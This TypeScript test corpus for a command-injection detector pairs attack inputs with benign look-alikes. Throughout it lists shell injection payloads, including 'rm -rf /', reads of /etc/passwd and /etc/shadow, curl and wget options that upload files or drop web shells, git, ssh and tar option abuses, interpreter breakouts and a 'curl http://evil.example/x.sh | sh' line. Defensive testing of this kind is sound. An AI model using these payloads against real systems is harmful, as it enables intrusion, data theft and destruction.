/**
 * Command-injection corpus: attacks that must be caught and benign look-alikes
 * that must pass, over realistic templates. `§` in a template marks where the
 * app concatenates the untrusted input.
 */
import type { SpawnResource, TaintInput } from '../../../lib/types';
import { charsOf } from '../../../lib/taint/decode';

export interface CommandCase {
  name: string;
  resource: SpawnResource;
  inputs: TaintInput[];
  /** Attacks: the source the finding must name (default: the first input's). */
  source?: string;
  /** Attacks: a substring the finding's reason must contain. */
  reason?: string;
}

const HOLE = '§';

export function input(value: string, decoding: string[] = [], source = 'query.x'): TaintInput {
  // With the character classes extraction sets, so the detectors' pre-filters are judged too.
  return { source, value, decoding, chars: charsOf(value) };
}

function asInput(x: string | TaintInput): TaintInput {
  return typeof x === 'string' ? input(x) : x;
}

/** exec(template with the input in it): the command runs in /bin/sh. */
export function shellCase(template: string, x: string | TaintInput, reason?: string, others: TaintInput[] = []): CommandCase {
  const i = asInput(x);
  const command = template.split(HOLE).join(i.value);
  const c: CommandCase = {
    name: `exec(${JSON.stringify(template)}) ← ${JSON.stringify(i.value)}${i.decoding.length ? ` [${i.decoding.join(',')}]` : ''}`,
    resource: { file: '/bin/sh', args: ['-c', command], shell: true, command },
    inputs: [...others, i],
    source: i.source,
  };
  if (reason !== undefined) c.reason = reason;
  return c;
}

/** execFile(file, args with the input in them): no shell. */
export function argvCase(file: string, args: string[], x: string | TaintInput, reason?: string, others: TaintInput[] = []): CommandCase {
  const i = asInput(x);
  const fill = (s: string): string => s.split(HOLE).join(i.value);
  const c: CommandCase = {
    name: `execFile(${JSON.stringify(file)}, ${JSON.stringify(args)}) ← ${JSON.stringify(i.value)}${i.decoding.length ? ` [${i.decoding.join(',')}]` : ''}`,
    resource: { file: fill(file), args: args.map(fill), shell: false },
    inputs: [...others, i],
    source: i.source,
  };
  if (reason !== undefined) c.reason = reason;
  return c;
}

/** exec() on Windows: Node runs the command with cmd.exe /d /s /c. */
function cmdCase(template: string, x: string, reason?: string): CommandCase {
  const command = template.split(HOLE).join(x);
  const c: CommandCase = {
    name: `cmd.exe exec(${JSON.stringify(template)}) ← ${JSON.stringify(x)}`,
    resource: { file: 'C:\\Windows\\system32\\cmd.exe', args: ['/d', '/s', '/c', `"${command}"`], shell: true, command },
    inputs: [input(x)],
  };
  if (reason !== undefined) c.reason = reason;
  return c;
}

/** A command cut out of a larger input (template/formula parser): payload-in-input direction. */
function containedCase(command: string, value: string, reason?: string): CommandCase {
  const c: CommandCase = {
    name: `exec(${JSON.stringify(command)}) inside input ${JSON.stringify(value)}`,
    resource: { file: '/bin/sh', args: ['-c', command], shell: true, command },
    inputs: [input(value)],
  };
  if (reason !== undefined) c.reason = reason;
  return c;
}

// ---------------------------------------------------------------------------
// Templates

/** Input unquoted and starting a word. */
const WORD_TEMPLATES = ['ls §', 'ping -c 1 §', 'convert § out.png', 'git log --format=%H §', 'nslookup §', 'wc -l § | sort -n'];
/** Input unquoted in the middle of a word the app started. */
const MIDWORD_TEMPLATES = ['cat /var/data/§', 'du -sh ./uploads/§/'];
const UNQUOTED_TEMPLATES = [...WORD_TEMPLATES, ...MIDWORD_TEMPLATES];
const DOUBLE_TEMPLATES = ['grep -r "§" .', 'echo "§" >> /tmp/log.txt', 'git commit -m "§"', 'convert "§" out.png'];
const SINGLE_TEMPLATES = ["echo '§'", "grep -F '§' data.txt", "printf '%s\\n' '§'"];

// ---------------------------------------------------------------------------
// Attacks

const UNQUOTED_ATTACKS: Array<[string, string]> = [
  ['.;touch /tmp/pwned', "operator ';'"],
  ['x && id', "operator '&&'"],
  ['x||id', "operator '||'"],
  ['x|id', "operator '|'"],
  ['x & id', "operator '&'"],
  ['x\nid', 'operator newline'],
  ['$(id)', 'command substitution'],
  ['`id`', 'command substitution'],
  ['a${IFS}b', 'variable expansion'],
  ['x>/tmp/out', 'redirection'],
];

/** Extra attacks for templates where the input starts a word. */
const WORD_ATTACKS: Array<[string, string]> = [
  ['a b', 'new word'],
  ['/etc/pa??wd', 'glob'],
  ['{cat,/etc/passwd}', 'brace expansion'],
  ['~root', 'tilde'],
  ['x #', 'comment'],
  ["x'", 'breaks out of quote'],
  ['x<(id)', 'command substitution'],
  ['$((6*7))', 'command substitution'],
  ['x 2>/dev/null', 'redirection'],
  ['<<EOF', 'redirection'],
];

/** Whole option words; with a space the new word is reported first. */
const OPTION_ATTACKS: Array<[string, string, string]> = [
  ['ls §', '-la', 'option'],
  ['ls §', '--help', 'option'],
  ['ls §', '--hide=x', 'option'],
  ['ping -c 1 §', '-f', 'option'],
  ['convert § out.png', '-write /tmp/x.png', 'new word'],
  ['git log --format=%H §', '--output=/tmp/pwned', 'option'],
  ['nslookup §', '-type=any', 'option'],
  ['wc -l § | sort -n', '--files0-from=/etc/passwd', 'option'],
  ['tar -czf /tmp/backup.tgz §', '--checkpoint-action=exec=sh', 'option'],
  ['convert "§" out.png', '-write', 'option'],
  ['grep -r "§" .', '-f/etc/passwd', 'option'],
  ['find ./uploads §', '-delete', 'option'],
  ['find ./uploads -name x §', '-exec', 'option'],
  ['convert §.jpg out.png', '--output=/tmp/x', 'option'],
];

const DOUBLE_ATTACKS: Array<[string, string]> = [
  ['$(id)', 'command substitution'],
  ['`id`', 'command substitution'],
  ['$HOME', 'variable expansion'],
  ['${PATH}', 'variable expansion'],
  ['"; id; "', 'breaks out of quote'],
  ['" && id #', 'breaks out of quote'],
  ['"$(id)"', 'breaks out of quote'],
  ['foo\\', 'backslash'],
  ['$((7*7))', 'command substitution'],
  ['x"y', 'breaks out of quote'],
  // The shell removes a backslash-newline before it reads tokens: `$\<newline>(id)` is `$(id)`.
  ['$\\\n(id)', 'command substitution'],
  ['`\\\nid`', 'command substitution'],
  ['$\\\n{HOME}', 'variable expansion'],
  // bash's old arithmetic form, an expansion where /bin/sh is bash.
  ['$[7*7]', 'command substitution'],
];

const SINGLE_ATTACKS: Array<[string, string]> = [
  ["'; rm -rf /; '", 'breaks out of quote'],
  ["' && id && '", 'breaks out of quote'],
  ["'$(id)'", 'breaks out of quote'],
  ["'`id`'", 'breaks out of quote'],
  ["O'Brien", 'breaks out of quote'],
  ["x' -la '", 'breaks out of quote'],
  ["'|id|'", 'breaks out of quote'],
  ["'>/tmp/x'", 'breaks out of quote'],
];

/** The shell passes a quoted script to another shell: the inner script is analysed too. */
const NESTED_SHELL_ATTACKS: Array<[string, string, string]> = [
  ['sh -c "ls §"', ';id', "operator ';'"],
  ['sh -c "ls §"', '|id', "operator '|'"],
  ['sh -c "ls §"', 'a b', 'new word'],
  ["bash -c 'echo §'", '$(id)', 'command substitution'],
  ["bash -c 'echo §'", ';id', "operator ';'"],
  ["bash -c 'echo §'", 'a>b', 'redirection'],
  ["sudo -u app sh -c 'cat §'", '&&id', "operator '&&'"],
];

const ARGV_OPTION_ATTACKS: Array<[string, string[], string]> = [
  ['git', ['clone', '§'], '--upload-pack=touch /tmp/pwned'],
  ['git', ['clone', '§'], '-u./payload.sh'],
  ['git', ['clone', '§'], '--config=core.sshCommand=touch /tmp/x'],
  ['git', ['clone', '§', '/srv/repo'], '--template=/tmp/evil'],
  ['git', ['ls-remote', '§'], '--upload-pack=id'],
  ['git', ['fetch', 'origin', '§'], '--upload-pack=id'],
  ['git', ['log', '--oneline', '§'], '--output=/tmp/pwned'],
  ['git', ['grep', '§'], '--open-files-in-pager=touch /tmp/x'],
  ['tar', ['-xf', '§'], '--checkpoint=1'],
  ['tar', ['-xf', '§'], '--checkpoint-action=exec=sh shell.sh'],
  ['tar', ['-xf', '§'], '--to-command=sh -c id'],
  ['tar', ['-xf', '§'], '--use-compress-program=sh x.sh'],
  ['tar', ['-cf', 'out.tar', '§'], '--checkpoint-action=exec=id'],
  ['curl', ['§'], '-o/var/www/html/shell.php'],
  ['curl', ['§'], '--output=/tmp/x'],
  ['curl', ['§'], '-K/etc/passwd'],
  ['curl', ['§'], '--config=/tmp/x'],
  ['curl', ['§'], '-T/etc/passwd'],
  ['curl', ['-s', '§'], '-d@/etc/passwd'],
  ['curl', ['§'], '--upload-file=/etc/shadow'],
  ['wget', ['§'], '--post-file=/etc/passwd'],
  ['wget', ['§'], '-O/var/www/x.php'],
  ['wget', ['§'], '--use-askpass=/tmp/x.sh'],
  ['wget', ['-q', '§'], '-euse_proxy=yes'],
  ['ssh', ['§'], '-oProxyCommand=touch /tmp/pwned'],
  ['ssh', ['§'], '-F/tmp/evil_config'],
  ['ssh', ['§', 'uptime'], '-oLocalCommand=id'],
  ['scp', ['§', 'backup@10.0.0.9:/b'], '-oProxyCommand=id'],
  ['find', ['§', '-type', 'f'], '-delete'],
  ['find', ['§', '-maxdepth', '1'], '-exec'],
  ['find', ['§'], '-fprint/tmp/x'],
  ['rsync', ['-a', '§', '/backup/'], '-e sh x.sh'],
  ['rsync', ['-a', '§', '/backup/'], '--rsh=touch /tmp/x'],
  ['rsync', ['§', '/backup/'], '--rsync-path=id'],
  ['zip', ['out.zip', '§'], '-TT=touch /tmp/x'],
  ['zip', ['out.zip', '§'], '--unzip-command=id'],
  ['sort', ['§', 'data.txt'], '--compress-program=sh'],
  ['grep', ['-r', '§', '.'], '-f/etc/passwd'],
  ['grep', ['-r', '§', '.'], '--file=/etc/shadow'],
  ['ping', ['-c', '1', '§'], '-f'],
  ['convert', ['§', 'out.png'], '-write /tmp/x.png'],
  ['docker', ['run', '§', 'alpine'], '--privileged'],
  ['docker', ['run', '§', 'alpine'], '-v/:/host'],
  ['npm', ['install', '§'], '--unsafe-perm'],
  ['convert', ['§.jpg', 'out.png'], '--output=/tmp/x'],
];

const PROGRAM_ATTACKS: Array<[string, string[], string]> = [
  ['§', ['--version'], 'rm'],
  ['§', ['--version'], '/bin/sh'],
  ['§', ['-c', 'id'], 'bash'],
  ['/usr/local/bin/§', [], 'evil-tool'],
  ['./scripts/§.sh', [], 'cleanup'],
  ['xargs', ['-0', '§'], 'rm'],
  ['timeout', ['5', '§', '/tmp'], 'sh'],
  ['sudo', ['-u', 'app', '§', 'x'], 'rm'],
  ['env', ['LANG=C', '§'], 'sh'],
];

const INTERPRETER_ATTACKS: Array<[string, string[], string, string]> = [
  ['sh', ['-c', 'ls §'], ';id', "operator ';'"],
  ['sh', ['-c', 'ls §'], '$(id)', 'command substitution'],
  ['sh', ['-c', 'ls §'], '`id`', 'command substitution'],
  ['sh', ['-c', 'ls §'], 'a b', 'new word'],
  ['sh', ['-c', 'ls §'], '|id', "operator '|'"],
  ['sh', ['-c', 'ls §'], '--help', 'option'],
  ['/bin/bash', ['-c', 'echo "§"'], '$(id)', 'command substitution'],
  ['bash', ['-c', 'echo "§"'], '"; id #', 'breaks out of quote'],
  ['bash', ['-lc', 'cat §'], ';id', "operator ';'"],
  ['sh', ['-e', '-c', 'ls §'], '&&id', "operator '&&'"],
  ['dash', ['-c', 'grep x §'], '>/tmp/x', 'redirection'],
  ['sudo', ['-u', 'app', 'sh', '-c', 'cat §'], ';id', "operator ';'"],
  ['env', ['LANG=C', 'sh', '-c', 'ls §'], '$(id)', 'command substitution'],
  ['ssh', ['deploy@10.0.0.5', 'ls §'], ';id', "operator ';'"],
  ['ssh', ['-p', '2222', 'deploy@10.0.0.5', 'ls §'], '$(id)', 'command substitution'],
  ['su', ['app', '-c', 'ls §'], ';id', "operator ';'"],
  ['node', ['-e', 'console.log("§")'], '"+require("child_process").execSync("id")+"', 'node script'],
  ['node', ['-e', 'console.log("§")'], '");process.exit(1);//', 'node script'],
  ['node', ['-p', '"§".length'], '"+process.env.SECRET+"', 'node script'],
  ['node', ['--eval=console.log("§")'], '");process.exit(1)//', 'node script'],
  ['python3', ['-c', "print('§')"], "');import os;os.system('id');print('", 'python script'],
  ['/usr/bin/python3.11', ['-c', "print('§')"], "'+__import__('os').popen('id').read()+'", 'python script'],
  ['perl', ['-e', 'print "§"'], '";system("id");"', 'perl script'],
  ['perl', ['-ne', 'print if /§/'], '/;system("id");/', 'perl script'],
  ['ruby', ['-e', 'puts "§"'], '#{`id`}', 'ruby script'],
  ['php', ['-r', 'echo "§";'], '${system("id")}', 'php script'],
  ['awk', ['/§/ {print}', 'access.log'], '/ {system("id")} /', 'awk script'],
  ['cmd', ['/c', 'dir §'], 'x & calc', 'cmd script'],
  ['cmd.exe', ['/d', '/s', '/c', 'type §'], 'x&&calc', 'cmd script'],
  ['powershell', ['-Command', 'Get-Item §'], 'x; calc', 'powershell script'],
  ['pwsh', ['-c', 'Get-Item §'], '$(calc)', 'pwsh script'],
  ['node', ['-e', '§'], 'process.exit()', 'node script'],
];

const DECODED_ATTACKS: CommandCase[] = [
  shellCase('ls §', input('.;touch /tmp/pwned', ['base64'])),
  shellCase('ls §', input('x\nid', ['url'])),
  shellCase('ping -c 1 §', input('127.0.0.1|id', ['url', 'base64'])),
  shellCase('grep -r "§" .', input('$(id)', ['html'])),
  shellCase('echo §', input('`id`', ['json'])),
  shellCase('cat §', input('a${IFS}b', ['hex'])),
  shellCase("echo '§'", input("'; id; '", ['base64url'])),
  argvCase('git', ['clone', '§'], input('--upload-pack=touch /tmp/x', ['base64'])),
  argvCase('curl', ['§'], input('-o/tmp/x', ['url'])),
  argvCase('sh', ['-c', 'ls §'], input(';id', ['url', 'base64'])),
];

/** Attacks arriving through other sources, among benign inputs of the same request. */
const MIXED_SOURCE_ATTACKS: CommandCase[] = [
  shellCase('ls §', input('.;id', [], 'headers.user-agent'), undefined, [input('Mozilla/5.0', [], 'headers.accept'), input('.', [], 'query.dir')]),
  shellCase('echo "§"', input('$(id)', [], 'body.user.name'), undefined, [input('alice', [], 'body.user.id')]),
  shellCase('cat §', input('x|id', [], 'cookies.sid'), undefined, [input('en-US', [], 'headers.accept-language')]),
  shellCase('ls ./files/§', input('a;id', [], 'params.id'), undefined, [input('/files/a%3Bid', [], 'path')]),
  argvCase('git', ['clone', '§'], input('--upload-pack=id', [], 'body.repo'), undefined, [input('https://example.com/r.git', [], 'body.mirror')]),
];

const CONTAINED_ATTACKS: CommandCase[] = [
  containedCase('cat /etc/passwd', 'please run: cat /etc/passwd'),
  containedCase('id; uname -a', '${{id; uname -a}}'),
  containedCase('curl http://evil.example/x.sh | sh', 'formula=SYSTEM("curl http://evil.example/x.sh | sh")'),
  containedCase('echo $(whoami)', '{{echo $(whoami)}}'),
  containedCase('rm -rf /data', '=cmd("rm -rf /data")'),
  {
    name: "execFile('rm', ['-rf', '/data']) inside input 'cmd: rm -rf /data'",
    resource: { file: 'rm', args: ['-rf', '/data'], shell: false },
    inputs: [input('cmd: rm -rf /data')],
  },
];

const WINDOWS_ATTACKS: CommandCase[] = [
  cmdCase('dir §', 'x & calc', 'cmd metacharacter'),
  cmdCase('dir §', 'x|whoami', 'cmd metacharacter'),
  cmdCase('type §', '%USERPROFILE%', 'cmd metacharacter'),
  cmdCase('dir §', 'x^&calc', 'cmd metacharacter'),
  cmdCase('type "§"', 'a" & calc & "', 'cmd metacharacter'),
  cmdCase('type "§"', '%COMSPEC%', 'cmd metacharacter'),
  cmdCase('ping -n 1 §', '127.0.0.1 && calc', 'cmd metacharacter'),
];

/** Less common shell corners. */
const CORNER_ATTACKS: CommandCase[] = [
  // Inside backticks, \` opens a nested substitution.
  shellCase('echo `basename §`', 'x\\`id\\`', 'command substitution'),
  shellCase('ls §', '~+', 'tilde'),
  // The input ends the here-document early; the lines after it run as commands.
  shellCase('cat <<EOF\n§\nEOF', 'hi\nEOF\nid', 'breaks out of here-document'),
  shellCase('cat <<EOF\n§\nEOF', '$(id)', 'command substitution'),
  // The input closes the app's $( ) early.
  shellCase('echo $(basename §)', 'x) ; id ; (x', 'command substitution'),
  // A NAME=value word in command position is an assignment (LD_PRELOAD, PATH).
  shellCase('§ ./run.sh', 'LD_PRELOAD=/tmp/x.so', 'assignment'),
  shellCase('§', 'reboot', 'program'),
  shellCase('§ --force', 'reboot', 'program'),
  shellCase('ls §', '"-la"', 'option'),
  shellCase('ls §', '\\-la', 'option'),
  shellCase('ls "§"', '-R', 'option'),
  shellCase('ls §', "$'\\x3b'id;id", "operator ';'"),
];

export const attacks: CommandCase[] = [
  ...UNQUOTED_TEMPLATES.flatMap((t) => UNQUOTED_ATTACKS.map(([x, r]) => shellCase(t, x, r))),
  ...WORD_TEMPLATES.flatMap((t) => WORD_ATTACKS.map(([x, r]) => shellCase(t, x, r))),
  ...OPTION_ATTACKS.map(([t, x, r]) => shellCase(t, x, r)),
  ...DOUBLE_TEMPLATES.flatMap((t) => DOUBLE_ATTACKS.map(([x, r]) => shellCase(t, x, r))),
  ...SINGLE_TEMPLATES.flatMap((t) => SINGLE_ATTACKS.map(([x, r]) => shellCase(t, x, r))),
  ...NESTED_SHELL_ATTACKS.map(([t, x, r]) => shellCase(t, x, r)),
  ...ARGV_OPTION_ATTACKS.map(([f, a, x]) => argvCase(f, a, x, 'injects option')),
  ...PROGRAM_ATTACKS.map(([f, a, x]) => argvCase(f, a, x, 'chooses the program')),
  ...INTERPRETER_ATTACKS.map(([f, a, x, r]) => argvCase(f, a, x, r)),
  ...DECODED_ATTACKS,
  ...MIXED_SOURCE_ATTACKS,
  ...CONTAINED_ATTACKS,
  ...WINDOWS_ATTACKS,
  ...CORNER_ATTACKS,
];

// ---------------------------------------------------------------------------
// Benign look-alikes

const UNQUOTED_BENIGN = [
  '.',
  '..',
  'my-dir_1.txt',
  'report-2024-01.pdf',
  'résumé.pdf',
  'файл.txt',
  '文档.txt',
  '😀.png',
  'v1.2.3',
  'user@example.com',
  '10.0.0.1',
  'example.com',
  '12345',
  'uploads/2024/img.png',
  'file+name.txt',
  '100%',
  'a:b',
  'x--y',
  '@scope/pkg',
  'key=value',
  'a,b',
  'hello!',
];

const DOUBLE_BENIGN = [
  "O'Brien",
  'hello world',
  "it's fine; really",
  'a && b',
  'a | b',
  '50% off!',
  'price: $',
  '#hashtag',
  '~tilde',
  '*star*',
  '(parens)',
  '<html>',
  '{a,b}',
  "'single'",
  'line1\nline2',
  '\\"; id',
  'café au lait',
  'C:\\Users\\bob',
];

const SINGLE_BENIGN = [
  'a "quoted" word',
  '$(id)',
  '`id`',
  '$HOME',
  'a;b|c&d',
  'line\nbreak',
  'C:\\path\\to',
  '*.txt',
  '{a,b}',
  '~/x',
  '#no-comment',
  '> not a redirect',
];

const SHELL_BENIGN_SPECIAL: Array<[string, string]> = [
  // The input happens to equal text the app wrote itself, mid-word.
  ['git log --format=%H §', '%H'],
  ['ls -la §', 'la'],
  // An option-looking value after `--` or inside a word is data.
  ['rm -- §', '-rf'],
  ['git log -- §', '--output=/tmp/x'],
  ['cat /var/data/§', '-rf'],
  ['du -sh ./uploads/§/', '--help'],
  ['grep -e "§" file.txt', 'pattern-x'],
  // Negative numbers are values, not options.
  ['convert in.png -rotate § out.png', '-90'],
  ['convert in.png -rotate § out.png', '-12.5'],
  // Whitespace that does not split a word.
  ['ls §', '  '],
  ['echo x § y', 'ab'],
  // Inside a here-document with a quoted delimiter nothing expands.
  ["cat <<'EOF'\n§\nEOF", '$(id); `id`'],
  // Escaped characters stay literal.
  ['echo §', 'a\\;b'],
  ['echo §', 'a\\ b'],
  // Brackets and braces that are not globs or brace expansions.
  ['echo §', 'a]b'],
  ['echo §', '{}'],
  ['echo §', '{abc}'],
  // Inside a quoted region the app opened, the script of a nested shell stays quoted.
  ['sh -c "ls \'§\'"', 'my file'],
];

const ARGV_BENIGN: Array<[string, string[], string]> = [
  ['git', ['clone', '§'], 'https://github.com/user/repo.git'],
  ['git', ['clone', '§'], 'git@github.com:user/repo.git'],
  ['git', ['clone', '§'], 'ssh://git@example.com/repo'],
  ['git', ['clone', '§'], 'my repo'],
  ['git', ['clone', '§'], 'repo;name'],
  ['git', ['clone', '§'], '$(id)'],
  ['git', ['clone', '§'], '`id`'],
  ['git', ['clone', '§'], 'a|b'],
  ['git', ['clone', '§'], "'; rm -rf /; '"],
  ['git', ['clone', '§'], 'foo && bar'],
  ['git', ['log', '--author=§'], '-rf'],
  ['git', ['log', '--author=§'], '--output=x'],
  ['git', ['log', '--', '§'], '--output=/tmp/x'],
  ['rm', ['--', '§'], '-rf'],
  ['grep', ['-r', '--', '§', '.'], '-f/etc/passwd'],
  ['tar', ['-xf', '§'], 'archive.tar.gz'],
  ['tar', ['-xf', '§'], 'backup 2024.tar'],
  ['tar', ['-xf', '§'], './-weird.tar'],
  ['tar', ['-xf', '§'], '*.tar'],
  ['curl', ['§'], 'https://example.com/?a=1&b=2'],
  ['curl', ['§'], 'http://127.0.0.1:8080/path?q=x|y'],
  ['curl', ['§'], 'https://example.com/a b'],
  ['curl', ['-o', '§', 'https://example.com/f'], '/tmp/out.txt'],
  ['ssh', ['§', 'uptime'], 'deploy@10.0.0.5'],
  ['ssh', ['§'], 'example.com'],
  ['find', ['§', '-type', 'f'], './uploads'],
  ['find', ['§', '-type', 'f'], 'data dir'],
  ['find', ['.', '-name', '§'], '*.txt'],
  ['convert', ['in.png', '-rotate', '§', 'out.png'], '-90'],
  ['convert', ['in.png', '-resize', '§', 'out.png'], '50%'],
  ['ping', ['-c', '1', '§'], '127.0.0.1'],
  ['ping', ['-c', '§', '10.0.0.1'], '-1'],
  ['sh', ['-c', 'ls -- "$1"', 'sh', '§'], '; rm -rf /'],
  ['sh', ['-c', 'ls -- "$1"', 'sh', '§'], '$(id)'],
  ['bash', ['-c', 'echo "$1"', '_', '§'], 'a;b'],
  ['sh', ['-c', 'ls §'], 'my-dir'],
  ['sh', ['-c', 'ls §'], 'file.txt'],
  ['sh', ['-c', 'grep -r "§" .'], "O'Brien"],
  ['node', ['script.js', '§'], '");process.exit()'],
  ['node', ['script.js', '§'], '$(id)'],
  ['node', ['-e', 'console.log("§")'], 'hello world'],
  ['node', ['-e', 'console.log("§")'], 'user@example.com'],
  ['node', ['-e', 'console.log("§")'], 'a-b_c.d'],
  ['python3', ['-c', "print('§')"], 'hello world'],
  ['python3', ['-c', 'import sys; print(sys.argv[1])', '§'], "');import os"],
  ['python3', ['manage.py', 'shell', '§'], 'x;y'],
  ['perl', ['script.pl', '§'], '";system("id");"'],
  ['awk', ['{print $1}', '§'], 'access log.txt'],
  ['sudo', ['-u', 'app', 'ls', '§'], 'file.txt'],
  ['cmd', ['/c', 'dir §'], 'C:\\Users\\bob'],
  ['cmd', ['/c', 'dir §'], 'report.txt'],
  ['ls', ['-la', '§'], 'résumé.pdf'],
  ['ls', ['-la', '§'], '文档'],
  ['echo', ['§'], 'ok'],
  ['echo', ['§'], ''],
  ['git', ['checkout', '§'], 'feature/add-login'],
  ['git', ['checkout', '§'], 'release-1.2'],
  ['git', ['show', '§'], 'a1b2c3d'],
  ['docker', ['run', '--rm', '§'], 'alpine:3.19'],
  ['npm', ['view', '§', 'version'], '@scope/pkg'],
  ['zip', ['out.zip', '§'], 'notes.txt'],
  ['rsync', ['-a', '§', '/backup/'], 'data/'],
];

const NOT_PRESENT: CommandCase[] = [
  { name: 'input absent from the command', resource: { file: '/bin/sh', args: ['-c', 'ls .'], shell: true, command: 'ls .' }, inputs: [input(';id')] },
  { name: 'input absent from argv', resource: { file: 'ls', args: ['-la'], shell: false }, inputs: [input('--upload-pack=x')] },
  { name: 'no inputs', resource: { file: '/bin/sh', args: ['-c', 'ls; id'], shell: true, command: 'ls; id' }, inputs: [] },
  {
    name: 'many harmless headers, none in the command',
    resource: { file: '/bin/sh', args: ['-c', 'uptime'], shell: true, command: 'uptime' },
    inputs: [input('Mozilla/5.0 (X11; Linux x86_64)', [], 'headers.user-agent'), input('*/*', [], 'headers.accept'), input('gzip, deflate', [], 'headers.accept-encoding')],
  },
  { name: 'single-character input', resource: { file: '/bin/sh', args: ['-c', 'ping -c 1 10.0.0.1'], shell: true, command: 'ping -c 1 10.0.0.1' }, inputs: [input('1')] },
  { name: 'empty input', resource: { file: '/bin/sh', args: ['-c', 'ls .'], shell: true, command: 'ls .' }, inputs: [input('')] },
  // A single word cut out of a larger input is not a command someone smuggled in.
  containedCase('ls', 'please ls the folder'),
  containedCase('date', 'update'),
  containedCase('uptime', 'check uptime now'),
  { name: 'argv cut from a larger input (one word)', resource: { file: 'date', args: [], shell: false }, inputs: [input('what is the date')] },
];

const WINDOWS_BENIGN: CommandCase[] = [
  cmdCase('dir §', 'report.txt'),
  cmdCase('dir §', 'C:\\Users\\bob'),
  cmdCase('type "§"', 'my file.txt'),
  cmdCase('type "§"', 'a & b | c < d'),
  cmdCase('ping -n 1 §', '127.0.0.1'),
  argvCase('cmd', ['/c', 'type "§"'], 'my notes & plans.txt'),
];

const CORNER_BENIGN: CommandCase[] = [
  shellCase('cat <<EOF\n§\nEOF', 'hello; world | and & more'),
  shellCase("cat <<'EOF'\n§\nEOF", '$(id) `id` $HOME'),
  shellCase('echo $(basename §)', 'my-file.txt'),
  shellCase('FOO=§ ./run.sh', 'bar'),
  shellCase('ls §', "$'my file'"),
  shellCase('ls §', '"my file"'),
  shellCase('ls §', "'it'\\''s'"),
  shellCase('echo ~/§', 'docs'),
];

export const benign: CommandCase[] = [
  ...UNQUOTED_TEMPLATES.flatMap((t) => UNQUOTED_BENIGN.map((x) => shellCase(t, x))),
  ...DOUBLE_TEMPLATES.flatMap((t) => DOUBLE_BENIGN.map((x) => shellCase(t, x))),
  ...SINGLE_TEMPLATES.flatMap((t) => SINGLE_BENIGN.map((x) => shellCase(t, x))),
  ...SHELL_BENIGN_SPECIAL.map(([t, x]) => shellCase(t, x)),
  ...ARGV_BENIGN.map(([f, a, x]) => argvCase(f, a, x)),
  ...NOT_PRESENT,
  ...WINDOWS_BENIGN,
  ...CORNER_BENIGN,
];
